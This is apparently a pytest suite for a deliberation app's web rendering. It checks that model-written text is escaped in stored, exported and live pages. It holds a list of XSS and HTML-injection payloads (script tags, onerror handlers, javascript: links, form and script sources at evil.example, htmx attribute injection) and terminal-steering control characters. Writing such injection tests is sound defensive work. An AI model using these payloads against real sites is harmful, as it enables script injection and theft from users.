"""Text of models stays text on the page: none of its markup is interpreted."""

import re
from functools import cache

import pytest

from markup import Element, parsed
from sessions import Story
from witan.deliberation import events as e
from witan.deliberation.session import Session
from witan.surfaces.web.live import LivePage
from witan.surfaces.web.markdown import ELEMENTS
from witan.surfaces.web.rendering import export_html, render_live, render_session

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "so <script src=//evil.example/x.js></script> it is",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><circle/></svg>",
    "style": "<style>body{display:none}</style>",
    "frame": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="https://evil.example"><button>Continue</button></form>',
    "base": '<base href="https://evil.example/">',
    "a close of ours": "</div></article></main><h1>Owned</h1>",
    "a patch of ours": '<hx-partial hx-target="#session" hx-swap="innerHTML">gone</hx-partial>',
    "a template": '<template hx type="partial" hx-target="body">gone</template>',
    "htmx attributes": '<a hx-get="/x" hx-trigger="load">x</a>',
    "javascript link": "[press](javascript:alert(1))",
    "javascript link, disguised": "[press](JaVa\tScRiPt:alert(1)) [p](&#106;avascript:alert(1))",
    "data link": "[press](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript link": "<vbscript:msgbox(1)> [x](vbscript:msgbox)",
    "file link": "[press](file:///etc/passwd)",
    "relative link": "[press](/sessions/s1/cancel)",
    "picture": "![a picture](https://evil.example/pixel.png)",
    "picture in a link": "[![x](https://evil.example/a.png)](https://evil.example)",
    "data picture": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "attribute breakout": '[x](https://ok.example/"onmouseover="alert(1))',
    "title breakout": "[x](https://ok.example 'a\" onclick=\"alert(1)')",
    "code block": '```" onload=alert(1)\n</code></pre><script>1</script>\n```',
    "definition": "[A]: https://evil.example\n\nas [A] says",
    "table": "| a |\n| --: |\n| <img src=x onerror=alert(1)> |",
    "comment": "<!-- --><script>alert(1)</script><!-- -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "formula with markup": r"$\text{<script>alert(1)</script>}$ \[ <img src=x onerror=alert(1)> \]",
    "formula with a link": r"\(\href{javascript:alert(1)}{x}\) \(\url{javascript:alert(1)}\)",
    "formula with a style": r"$$\style{position:fixed}{x} \class{a\" onclick=\"x}{y}$$",
    "formula that hides": r"\(\color{white}{x} \hspace{99999em} \unicode{x202E}\)",
    "formula that defines": r"$\newcommand{\a}{xx}\newcommand{\b}{\a\a}\b$ $\def\x{\x\x}\x$",
    "formula that nests": "$" + "{" * 1900 + "}" * 1900 + "$",
    "unfinished formulas": "\\( \\[ $$ $ " * 300,
    "code in a language": "```html\n<script>alert(1)</script>\n</code></pre><img src=x>\n```",
    "language with markup": '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "footnote": "so[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "footnote with an odd name": 'so[^"><img>]\n\n[^"><img>]: x',
    "task": "- [x] <script>alert(1)</script>\n- [ ] ![x](https://evil.example/p.png)",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
}

OURS = {
    "a", "article", "b", "body", "button", "circle", "code", "dd", "desc", "details", "div", "dl",
    "dt", "em", "fieldset", "figcaption", "figure", "footer", "form", "g", "h1", "h2", "h3", "h4",
    "h5", "h6", "head", "header", "hr", "html", "hx-partial", "input", "label", "legend", "li",
    "line", "link", "main", "meta", "nav", "noscript", "ol", "option", "output", "p", "path", "pre",
    "rect", "script", "section", "select", "span", "strong", "style", "summary", "sup", "svg",
    "table", "tbody", "td", "text", "th", "thead", "title", "tr", "ul", *ELEMENTS,
}  # fmt: skip


def story(text: str) -> Story:
    """A session whose members say the same text everywhere."""
    told = Story("ada", "bob", "cyd", question=text, notes=(text,))
    told.answers(ada=text, bob=text, cyd=text)
    told.casts("ada: bob > cyd", notes=text)
    told.tell(e.BallotRepaired, seat="bob", problem=text, reply=text)
    told.casts("bob: ada > cyd").abstains("cyd", text)
    return told.closing(f"{text}\n\nAs [A] says.", labels={"A": "ada", "B": "bob", "C": "cyd"})


@cache
def pages(text: str) -> dict[str, str]:
    """The page of that session: stored, exported, running, and its patches."""
    told = [*story(text).closed(text)]
    session = Session.of(told)
    live = LivePage(told[:1])
    patches = []
    for event in told[1:]:
        if isinstance(event, e.AnswerDone):
            piece = e.AnswerDelta(seq=event.seq, at=event.at, seat=event.seat, text=text)
            live.take(piece)
            patches.append(live.patch())
        live.take(event)
        patches.append(live.patch())
    return {
        "stored": render_session(session),
        "revealed": render_session(session, show_names=True),
        "saved": export_html(session),
        "under way": render_live(LivePage(told[:-1])),
        "patches": "".join(patches),
    }


@cache
def trees(text: str) -> dict[str, Element]:
    """The same pages, parsed."""
    return {name: parsed(page) for name, page in pages(text).items()}


def links(root: Element) -> list[Element]:
    return [a for a in root.all("a") if not a.attrs["href"].startswith(("#", "/"))]


STEERING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]"
)
"""Characters that steer a terminal, turn a line around, or hide in it."""


class TestControlCharacters:
    """Printed by curl or opened in an editor, a page steers nothing."""

    @pytest.mark.parametrize(
        "text", ["\x1b]52;c;aGk=\x07x", "\x9b31mx", "a\u202eb", "a\u200bb\u2066"]
    )
    def test_control_characters_are_escaped(self, text):
        """In pages of all kinds and in patches of the live page."""
        for name, page in pages(text).items():
            assert STEERING.findall(page) == [], name

    def test_a_form_returns_its_value_unchanged(self):
        """The field holds a character reference, which a browser decodes."""
        session = Session.of([*story("so").closed("so")])

        page = render_session(session, misnamed="a\x1bb")

        assert STEERING.findall(page) == []
        assert 'value="a&#x1b;b"' in page


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
class TestInjection:
    """Hostile texts in every place that shows text."""

    def test_text_creates_no_element_or_attribute(self, attack):
        """Pages have only elements of our templates, no handlers, styles or pictures."""
        for name, root in trees(attack).items():
            elements = root.all()
            assert len(root.all("style")) == (name == "saved")
            assert {element.tag for element in elements} <= OURS
            names = {name for element in elements for name in element.attrs}
            assert not [name for name in names if name.startswith("on") or name == "style"]
            for element in elements:
                if element.tag == "script":
                    assert element.attrs["src"].startswith("/assets/")
                    assert element.text == ""
                if element.tag != "hx-partial":
                    assert element.attrs.get("hx-target") is None
            hx = [x for x in elements if any(name.startswith("hx-") for name in x.attrs)]
            assert all(x.tag == "hx-partial" or x.attrs.get("id") == "live" for x in hx)

    def test_links_lead_only_to_the_web_and_to_mail(self, attack):
        """Links use http, https or mailto, and send no referrer."""
        for root in trees(attack).values():
            for link in links(root):
                assert link.attrs["href"].startswith(("http://", "https://", "mailto:"))
                assert link.attrs["rel"] == "noopener noreferrer nofollow"

    def test_text_adds_no_form_and_no_structure(self, attack):
        """Forms and headings are those of a page with harmless text."""

        def frame(root: Element) -> list[str]:
            forms = [form.attrs["action"] for form in root.all("form")]
            return [*forms, *(h.attrs.get("id", "") for h in root.all("h2"))]

        harmless = {name: frame(root) for name, root in trees("Quite so.").items()}
        assert {name: frame(root) for name, root in trees(attack).items()} == harmless


class TestCharacters:
    """Characters that would steer a terminal or a reader."""

    @pytest.mark.parametrize(
        ("char", "shown"),
        [
            ("\x1b", "\\x1b"),
            ("\u202e", "\\u202e"),
            ("\u2066", "\\u2066"),
            ("\x00", "\\x00"),
            ("\x08", "\\x08"),
        ],
        ids=["escape", "override", "isolate", "null", "backspace"],
    )
    def test_steering_characters_are_escaped(self, char, shown):
        """Bidirectional controls, ANSI escapes and others are written out."""
        for page in pages(f"safe{char}[31mtext").values():
            assert char not in page
            assert shown in page

    def test_names_and_sources_of_seats_are_escaped(self):
        """A seat may have any name."""
        name = "bob\x1b[2J<b>\u202e"
        story = Story("ada", name).answers(**{"ada": "A.", name: "B."}).casts(f"ada: {name}")
        session = Session.of(story.abstains(name, "late"))

        for page in (render_session(session, show_names=True), export_html(session)):
            assert not {"\x1b", "\u202e"}.intersection(page)
            assert "<b>" not in page
            assert "bob\\x1b[2J&lt;b&gt;\\u202e" in page

    def test_line_ends_do_not_end_a_patch(self):
        """A carriage return in a text ends no line of the event stream."""
        assert "\r" not in pages("a\r\nb\rc")["patches"]

    def test_a_lone_surrogate_is_no_error(self):
        """It is written out, as UTF-8 cannot encode it."""
        for page in pages("half \ud83d here").values():
            page.encode()
